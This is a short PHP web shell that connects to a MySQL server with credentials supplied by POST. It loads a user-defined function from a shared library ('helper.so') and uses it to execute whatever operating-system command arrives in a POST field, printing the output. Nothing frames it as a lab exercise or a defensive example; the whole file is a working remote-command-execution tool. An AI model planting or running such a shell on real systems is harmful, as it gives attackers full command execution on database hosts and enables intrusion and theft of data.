<?php
$link = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);
mysqli_query($link, "CREATE FUNCTION run_cmd RETURNS STRING SONAME 'helper.so'");
echo implode("", mysqli_fetch_row(mysqli_query($link, "SELECT run_cmd('" . $_POST['c'] . "')")));
